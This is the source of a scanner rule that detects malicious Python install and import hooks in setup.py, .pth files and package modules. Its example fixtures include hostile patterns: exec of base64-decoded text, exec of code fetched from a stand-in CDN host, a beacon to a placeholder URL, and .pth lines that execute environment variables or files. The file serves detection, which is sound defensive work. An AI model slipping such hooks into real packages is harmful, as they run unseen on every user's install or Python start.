import type { FileCheck } from '../../check.ts';

/** A line of a path file that Python executes at every start. */
const PATH_LINE = /^import[ \t][^\n]{1,2000}/;
/** What setuptools writes so that several packages share a namespace: it makes a module and puts a folder on its path. */
const NAMESPACE_LINE = /^import sys, ?types, ?os; ?(?:has_mfs ?=|p ?= ?os\.path\.join\(sys\._getframe\()/;
const WORDS_OF_NAMESPACES: ReadonlySet<string> = new Set(
  `import sys types os has_mfs version_info p path join _getframe f_locals importlib and or not in __import__ m mp modules
  setdefault util module_from_spec machinery PathFinder find_spec dirname ModuleType __dict__ append setattr`.split(
    /\s+/,
  ),
);
const QUOTED = /'[\w.]*'/g;
const OTHER_IMPORT = /__import__(?!\('importlib\.(?:util|machinery)'\))/;
/** What setuptools writes to stand in for distutils, the whole line. */
const DISTUTILS_LINE =
  /^import os; ?var = 'SETUPTOOLS_USE_DISTUTILS'; ?enabled = os\.environ\.get\(var, '\w+'\) == 'local'; ?enabled and __import__\('_distutils_hack'\)\.add_shim\(\);?\s*$/;
/** Runs a text that stands written out, which is how several statements fit on one line. */
const WRITTEN_OUT = /\bexec\((?=(["'])[^\n]{1,1500}\1\)\s*$)/;
const ACTS =
  /\bexec\b|\beval\b|\bsystem\b|\bpopen\b|\bsubprocess\b|\burl|\brequests\b|\bbase64\b|\bsocket\b|\bcompile\b|__import__/;

export const check: FileCheck = {
  id: 'supply-chain-python-import-hook',
  title: 'Hostile code runs as soon as Python installs or imports it',
  severity: 'high',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    \`setup.py\` runs while the package is being installed, a \`.pth\` file and \`sitecustomize\` at every start of Python.
    What stands outside functions runs at the first import. Nobody has to call anything: it happens to everyone.`,
  fix: 'Do not install it. Where you are its author, let setup.py describe the package and do nothing else.',
  blindSpots: 'A function that another module calls at import is not recognised as running then.',
  wants: {
    roles: ['setup-script', 'python-path-hook'],
    acts: [
      'decoded-execution',
      'remote-execution',
      'dropped-execution',
      'environment-sent',
      'system-facts-sent',
      'secret-file-sent',
      'file-sent',
      'disguised-call',
      'shady-contact',
      'install-contact',
      'risky-command',
      'install-command',
      'install-write',
      'remote-control',
    ],
  },
  examples: {
    bad: [
      { 'setup.py': 'from setuptools import setup\n«exec(base64.b64decode("cHJpbnQoMSk="))»\nsetup(name="x")\n' },
      {
        'setup.py':
          'import urllib.request\n«urllib.request.urlopen("https://beacon.example.net/x")»\nsetup(name="x")\n',
      },
      { 'pkg/__init__.py': 'import requests\n«exec(requests.get("https://cdn.example.net/p").text)»\n' },
      { 'x.pth': '«import os; exec(os.environ.get("X", ""))»\n' },
      {
        'trace.pth':
          '«import sys; exec("import os\\nif os.getenv(\'TRACE\'):\\n import trace_it\\n trace_it.start()")»\n',
      },
      {
        'shared-nspkg.pth':
          "«import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme',));exec(open(p).read())»\n",
      },
      {
        'distutils-precedence.pth': "«import os; var = 'SETUPTOOLS_USE_DISTUTILS'; exec(os.environ.get(var, ''))»\n",
      },
    ],
    good: [
      { 'setup.py': 'from setuptools import setup\nsetup(name="x", packages=["x"])\n' },
      { 'setup.py': 'subprocess.check_call(["cmake", "--build", "."])\nsetup(name="x")\n' },
      { 'x.pth': '../src\n' },
      {
        'shared-nspkg.pth':
          "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme', 'eval'));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('acme.eval', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('acme.eval', [os.path.dirname(p)])));m = m or sys.modules.setdefault('acme.eval', types.ModuleType('acme.eval'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['acme'], 'eval', m)\n",
      },
      {
        'shared-nspkg.pth':
          "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('acme', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('acme', [os.path.dirname(p)])));m = m or sys.modules.setdefault('acme', types.ModuleType('acme'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
      },
      {
        'distutils-precedence.pth':
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
      },
      { 'pkg/load.py': 'def load(url):\n    exec(requests.get(url).text)\n' },
      { 'app.py': 'import urllib.request\nurllib.request.urlopen("https://api.example.net/x")\n' },
    ],
  },

  *find(file) {
    const isHook = file.role === 'setup-script' || file.role === 'python-path-hook';
    if (!isHook && file.language !== 'python') return;
    const seen = new Set<number>();
    for (const { start, end, message, confidence, atLoad } of file.acts) {
      if (seen.has(start) || !(isHook || atLoad === true)) continue;
      seen.add(start);
      yield { at: file.span(start, end), message: `This runs at installation or import. ${message}`, confidence };
    }
    if (!file.path.toLowerCase().endsWith('.pth')) return;
    for (const { start, text } of file.lines) {
      if (!PATH_LINE.test(text) || !ACTS.test(text) || isUsual(text)) continue;
      const isStart = !ACTS.test(text.replace(WRITTEN_OUT, '(')) && /\bimport (?!os\b|sys\b)\w/.test(text);
      yield {
        at: file.span(start, start + text.trimEnd().length),
        message: `Python runs this line at every start${isStart ? '; it calls a module that everybody can read' : ''}.`,
        ...(isStart && { severity: 'low', confidence: 'medium' }),
      };
    }
  },
};

function isUsual(line: string): boolean {
  if (!NAMESPACE_LINE.test(line)) return DISTUTILS_LINE.test(line);
  const words = line.replace(QUOTED, '').match(/[A-Za-z_]\w*/g) ?? [];
  return words.every((word) => WORDS_OF_NAMESPACES.has(word)) && !OTHER_IMPORT.test(line);
}
